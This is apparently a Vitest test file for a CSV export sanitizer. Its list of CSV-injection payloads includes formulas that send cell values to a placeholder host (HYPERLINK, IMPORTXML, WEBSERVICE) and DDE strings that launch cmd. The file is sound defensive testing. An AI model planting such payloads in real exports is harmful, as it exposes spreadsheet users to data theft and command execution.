import { describe, expect, it } from 'vitest';
import { csvField, csvRecord, looksLikeFormula, neutralizeFormula } from './spreadsheet-safety.js';

/** OWASP CSV-injection payloads and the ones AS-IN-10 / F-10 add. */
const payloads = [
  '=HYPERLINK("http://x/?"&A1)',
  "=cmd|'/c calc'!A1",
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\0=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '=1+2";=1+2',
  "=2+5+cmd|' /C calc'!A0",
  '@cmd',
  '-@SUM(A1)',
  '+cmd|x',
  '=IMPORTXML(CONCAT("http://x/?v=",A1),"//a")',
  '=WEBSERVICE("http://x/")',
];

describe('neutralizeFormula', () => {
  it('AS-IN-10 prefixes a single quote to every text cell that would start a formula', () => {
    for (const p of payloads) {
      expect(looksLikeFormula(p), JSON.stringify(p)).toBe(true);
      expect(neutralizeFormula(p), JSON.stringify(p)).toBe(`'${p}`);
    }
  });

  it('AS-IN-10 leaves ordinary text, numbers and empty cells as they are', () => {
    expect(neutralizeFormula('有效发明专利')).toBe('有效发明专利');
    expect(neutralizeFormula('A=1')).toBe('A=1');
    expect(neutralizeFormula('')).toBe('');
    expect(neutralizeFormula(-5)).toBe(-5);
    expect(neutralizeFormula(3.14)).toBe(3.14);
    expect(neutralizeFormula(true)).toBe(true);
    expect(neutralizeFormula(null)).toBeNull();
    const date = new Date(Date.UTC(2025, 0, 1));
    expect(neutralizeFormula(date)).toBe(date);
  });
});

describe('csvField', () => {
  it('AS-IN-10 neutralises, then quotes per RFC 4180', () => {
    expect(csvField('=1+2";=1+2')).toBe(`"'=1+2"";=1+2"`);
    expect(csvField('金湖县,开发区')).toBe('"金湖县,开发区"');
    expect(csvField('第一行\r\n第二行')).toBe('"第一行\r\n第二行"');
    expect(csvField(-2)).toBe('-2');
    expect(csvField(undefined)).toBe('');
    expect(csvRecord(['@SUM(1)', 1200, null, '商标'])).toBe("'@SUM(1),1200,,商标\r\n");
  });
});
